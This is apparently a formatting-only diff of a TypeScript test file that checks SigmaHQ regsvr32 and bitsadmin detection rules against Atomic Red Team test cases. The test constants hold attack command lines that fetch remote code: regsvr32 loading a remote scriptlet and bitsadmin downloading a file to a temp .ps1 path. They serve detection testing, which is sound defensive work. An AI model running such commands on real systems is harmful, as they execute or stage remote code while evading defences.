@@ -16,16 +16,24 @@ let report: LoadReport;
 const CMD = 'C:\\Windows\\System32\\cmd.exe';
 const REGSVR32 = 'C:\\Windows\\System32\\regsvr32.exe';
 const BITSADMIN = 'C:\\Windows\\System32\\bitsadmin.exe';
-const T1218_010 = 'regsvr32.exe /s /u /i:https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1218.010/src/RegSvr32.sct scrobj.dll';
+const T1218_010 =
+	'regsvr32.exe /s /u /i:https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1218.010/src/RegSvr32.sct scrobj.dll';
 const T1197 =
 	'C:\\Windows\\System32\\bitsadmin.exe /transfer qcxjb7 /Priority HIGH https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1197/T1197.md %temp%\\bitsadmin1_flag.ps1';
-const T1197_DEMO = 'bitsadmin.exe /transfer /Download /priority Foreground https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1197/T1197.md C:\\Users\\alice\\AppData\\Local\\Temp\\bitsadmin_flag.ps1';
+const T1197_DEMO =
+	'bitsadmin.exe /transfer /Download /priority Foreground https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1197/T1197.md C:\\Users\\alice\\AppData\\Local\\Temp\\bitsadmin_flag.ps1';
 
 function shapes(image: string, cmdline: string) {
 	return {
 		's1-cf2': s1ProcessCreation({image, cmdline, name: image.split('\\').pop()}, {image: CMD, cmdline: 'cmd.exe /c'}),
 		's1-dv': s1ProcessCreation({image, cmdline}, {image: CMD, cmdline: 'cmd.exe /c'}, 's1-dv'),
-		sysmon: sysmonEvent({Image: image, CommandLine: cmdline, OriginalFileName: image.split('\\').pop()!.toUpperCase(), ParentImage: CMD, ParentCommandLine: 'cmd.exe /c'}),
+		sysmon: sysmonEvent({
+			Image: image,
+			CommandLine: cmdline,
+			OriginalFileName: image.split('\\').pop()!.toUpperCase(),
+			ParentImage: CMD,
+			ParentCommandLine: 'cmd.exe /c',
+		}),
 	};
 }
 
@@ -69,7 +77,8 @@ describe.skipIf(!corpus.root)('SigmaHQ regsvr32 and bitsadmin rules on Atomic te
 	}
 
 	it("the demo's bitsadmin variant hits the download rule", () => {
-		for (const ev of Object.values(shapes(BITSADMIN, T1197_DEMO))) expect(engine.evaluate(ev).map(h => h.id)).toContain('d059842b-6b9d-4ed1-b5c3-5b89143c6ede');
+		for (const ev of Object.values(shapes(BITSADMIN, T1197_DEMO)))
+			expect(engine.evaluate(ev).map(h => h.id)).toContain('d059842b-6b9d-4ed1-b5c3-5b89143c6ede');
 	});
 
 	it('benign regsvr32 and bitsadmin use stays quiet under the built-in rules', () => {
